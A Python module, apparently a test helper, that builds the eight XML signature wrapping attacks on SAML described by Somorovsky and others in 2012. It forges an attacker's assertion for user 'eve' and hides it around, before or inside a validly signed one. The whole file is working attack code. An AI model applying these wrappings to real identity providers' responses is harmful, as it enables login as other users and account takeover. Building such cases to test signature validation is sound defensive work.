"""The eight ways of wrapping a signature (Somorovsky and others, On Breaking SAML, 2012).

Each keeps an assertion that the provider signed for D1001, and adds one of the attacker's for D1002.
"""

import re
from collections.abc import Callable
from dataclasses import dataclass


@dataclass(frozen=True)
class Parts:
    """A response in which both the response and its assertion are signed, taken apart."""

    response: str
    assertion: str
    signature: str  # of the assertion
    outer_signature: str  # of the response

    @classmethod
    def of(cls, response: str) -> "Parts":
        """Take a response apart."""
        response = response.partition("?>")[2]
        assertion = _first(r"<saml:Assertion.*</saml:Assertion>", response)
        signature = _first(r"<ds:Signature .*?</ds:Signature>", assertion)
        return cls(response, assertion, signature, _first(r"<ds:Signature .*?</ds:Signature>", response))

    @property
    def bare(self) -> str:
        """The assertion without its signature."""
        return self.assertion.replace(self.signature, "")

    @property
    def evil(self) -> str:
        """An assertion of the attacker's, without a signature."""
        return _forge(self.bare)


def _first(pattern: str, text: str) -> str:
    match = re.search(pattern, text, re.DOTALL)
    assert match
    return match[0]


def _forge(text: str) -> str:
    changed = text.replace("D1001", "D1002").replace(">jo<", ">eve<")
    return re.sub(r'ID="_(\w+)"', r'ID="_evil_\1"', changed)


def _with_signature(assertion: str, signature: str) -> str:
    return assertion.replace("</saml:Issuer>", f"</saml:Issuer>{signature}", 1)


def _wrap_response_inside(parts: Parts) -> str:
    original = parts.response.replace(parts.outer_signature, "")
    forged = _forge(original.replace(parts.assertion, parts.evil))
    holder = parts.outer_signature.replace(
        "</ds:Signature>", f"<ds:Object>{original}</ds:Object></ds:Signature>"
    )
    return _with_signature(forged, holder)


def _wrap_response_beside(parts: Parts) -> str:
    original = parts.response.replace(parts.outer_signature, "")
    forged = _forge(original.replace(parts.assertion, parts.evil))
    return _with_signature(forged, f"{parts.outer_signature}{original}")


def _put_before(parts: Parts) -> str:
    return parts.response.replace(parts.assertion, parts.evil + parts.assertion)


def _put_around(parts: Parts) -> str:
    around = parts.evil.replace("</saml:Assertion>", f"{parts.assertion}</saml:Assertion>")
    return parts.response.replace(parts.assertion, around)


def _take_signature(parts: Parts) -> str:
    return parts.response.replace(parts.assertion, _with_signature(parts.evil, parts.signature) + parts.bare)


def _put_inside_signature(parts: Parts) -> str:
    holder = parts.signature.replace("</ds:Signature>", f"{parts.bare}</ds:Signature>")
    return parts.response.replace(parts.assertion, _with_signature(parts.evil, holder))


def _put_in_extensions(parts: Parts) -> str:
    extensions = f"<samlp:Extensions>{parts.evil}</samlp:Extensions>"
    return parts.response.replace("<samlp:Status>", f"{extensions}<samlp:Status>", 1)


def _put_in_object(parts: Parts) -> str:
    holder = parts.signature.replace("</ds:Signature>", f"<ds:Object>{parts.bare}</ds:Object></ds:Signature>")
    return parts.response.replace(parts.assertion, _with_signature(parts.evil, holder))


WRAPPINGS: dict[str, Callable[[Parts], str]] = {
    "xsw1-response-inside-its-signature": _wrap_response_inside,
    "xsw2-response-beside-its-signature": _wrap_response_beside,
    "xsw3-before": _put_before,
    "xsw4-around": _put_around,
    "xsw5-signature-taken": _take_signature,
    "xsw6-inside-the-signature": _put_inside_signature,
    "xsw7-in-extensions": _put_in_extensions,
    "xsw8-in-an-object": _put_in_object,
}
